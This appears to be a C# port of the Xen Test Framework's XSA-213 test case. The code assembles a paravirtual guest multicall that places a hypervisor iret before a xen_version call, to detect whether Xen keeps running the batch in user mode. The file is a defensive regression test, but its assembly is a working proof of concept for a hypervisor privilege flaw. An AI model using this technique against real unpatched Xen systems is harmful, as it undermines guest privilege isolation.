using Iced.Intel;
using Xtf.Core.Cpu;
using Xtf.Core.Guest;
using Xtf.Core.Guest.Image;
using Xtf.Core.Testing;
using Xtf.Core.Xen;
using static Iced.Intel.AssemblerRegisters;

namespace Xtf.TestCases.Xsa213;

/// <summary>
/// XTF's xsa-213: Advisory XSA-213. Before the fix, Xen allowed __HYPERVISOR_iret inside a
/// multicall: the iret switches the guest from kernel to user mode, but the batch went on, and
/// the entries after it ran for user code with no further privilege check. Fixed Xen ends the
/// batch after an iret (arch_do_multicall_call returns mc_exit), so the multicall returns the
/// iret's result, which is the RAX/EAX the iret restored. The PoC issues the multicall directly
/// (pv64 <c>syscall</c> from kernel mode, pv32 <c>int $0x82</c>) with an iret frame on the stack
/// that lands on <c>int $X86_VEC_AVAIL</c> in user text, followed by a xen_version entry whose
/// result must stay 0. The kernel stack pointer is stashed in %dr0 across the trip through user
/// mode: MOV to and from a debug register is privileged (SDM vol. 3, 17.2.2: CPL 0 only), so the
/// PV kernel's MOVs are #GP(0) which Xen's privileged-op emulator carries out.
/// Where we differ from upstream: upstream's handler does <c>mov %dr0, %rsp; jmp
/// multicall_return</c>, the label after the hypercall; ours reaches the same point by the
/// PoC calling its own multicall code, so that %dr0 holds a stack pointer whose top is the
/// address of multicall_return, and the handler's <c>mov %dr0, %rsp; ret</c> returns there.
/// It guards the <c>xsa-213</c> quirk, which lets the batch run on after the iret.
/// </summary>
[XtfTest("xsa-213", Category.Xsa, Environments.Pv, Title = "XSA-213 PoC", Guards = ["xsa-213"])]
public sealed class Xsa213 : TestCase
{
    /// <summary>The RAX/EAX the iret frame restores (XTF's IRET_IDENTIFIER).</summary>
    private const uint IretIdentifier = 0xdead;

    /// <summary>multi[] in the kernel's data (the runtime's scratch page, second half).</summary>
    private const ulong Multi = HvmLayout.Scratch + 0x800;

    public override void Main()
    {
        long xenVersion = HypercallXenVersion(XenVersionCommand.Version);
        Printk($"Found Xen {(xenVersion >> 16) & 0xffff}.{xenVersion & 0xffff}\n");

        // recover_from_iret: back on the stack stashed in %dr0, whose top is multicall_return.
        bool wide = Bitness == 64;
        ulong recoverFromIret = AssembleKernelCode(a =>
        {
            if (wide)
                a.mov(rsp, dr0);
            else
                a.mov(esp, dr0);
            a.ret();
        });

        // iret_entry, in user text: the way back to the kernel.
        ulong iretEntry = AssembleUserCode(a => a.@int(X86VecAvail));
        SetIdtEntry(X86VecAvail, recoverFromIret, dpl: 3);

        // multi[] = { { __HYPERVISOR_iret }, { __HYPERVISOR_xen_version, { XENVER_version, NULL } } }.
        WriteKernelMemory(Multi, [
            .. MulticallEntry(HypercallNumber.Iret),
            .. MulticallEntry(HypercallNumber.XenVersion, XenVersionCommand.Version, 0),
        ]);

        var r = MultiIretCall(iretEntry, 2);
        if (!r.Fault.IsNone)
            Panic($"Unhandled exception in multi_iret_call: {r.Fault}");

        long rc = wide ? (long)r.Rax : (int)r.Eax;
        if (rc != IretIdentifier)
        {
            if (rc != 0)
                Error($"Error: Unexpected multicall result {rc}\n");
            else
                Failure("Fail: Multicall didn't finish at the iret\n");
        }

        long result1 = MulticallResult(Multi + (ulong)MulticallEntrySize);
        if (result1 != 0)
        {
            if (result1 == xenVersion)
                Failure("Fail: xen_version hypercall run in user context\n");
            else
                Error($"Error: Unexpected xen_version result {result1:x}\n");
        }
        else
        {
            Success("Success: Not vulnerable to XSA-213\n");
        }
    }

    /// <summary>
    /// XTF's multi_iret_call: stash the stack pointer in %dr0; build a HYPERVISOR_iret frame on
    /// the kernel stack landing at iret_entry on the user stack, with EFLAGS.IF cleared (it leaks
    /// in from real hardware; the PV iret makes it the event mask); pv64 adds the flags, RCX and
    /// R11 words (ignored: flags 0 has no VGCF_in_syscall); then RAX/EAX = IRET_IDENTIFIER and
    /// the multicall, issued with the hypercall instruction itself. Returns the registers at
    /// multicall_return.
    /// </summary>
    private Xtf.Core.Guest.Runtime.ExecResult MultiIretCall(ulong iretEntry, uint nr)
    {
        bool wide = Bitness == 64;
        ushort userCs = Runtime.UserCs, userDs = Runtime.UserDs;
        return ExecDetailed(a =>
        {
            var multicall = a.CreateLabel();
            var multicallReturn = a.CreateLabel();
            a.call(multicall);
            a.jmp(multicallReturn);

            a.Label(ref multicall);
            if (wide)
            {
                a.mov(dr0, rsp);
                a.push(userDs);
                a.push((int)HvmLayout.UserStackTop);
                a.pushfq();
                a.and(__dword_ptr[rsp], ~(int)RFlags.IF);
                a.push(userCs);
                a.push((int)iretEntry);
                a.push(0);
                a.push(0);
                a.push(0);
                a.push((int)IretIdentifier);
                a.mov(eax, HypercallNumber.Multicall);
                a.mov(rdi, Multi);
                a.mov(esi, nr);
                a.syscall();
            }
            else
            {
                a.mov(dr0, esp);
                a.push(userDs);
                a.push((int)HvmLayout.UserStackTop);
                a.pushfd();
                a.and(__dword_ptr[esp], ~(int)RFlags.IF);
                a.push(userCs);
                a.push((int)iretEntry);
                a.push((int)IretIdentifier);
                a.mov(eax, HypercallNumber.Multicall);
                a.mov(ebx, (uint)Multi);
                a.mov(ecx, nr);
                a.@int(0x82);
            }

            // Only a multicall that returned to the kernel gets here, its iret frame still
            // pushed; the snippet's epilogue restores the stack pointer.
            a.jmp(multicallReturn);
            a.Label(ref multicallReturn);
            a.nop();
        });
    }
}
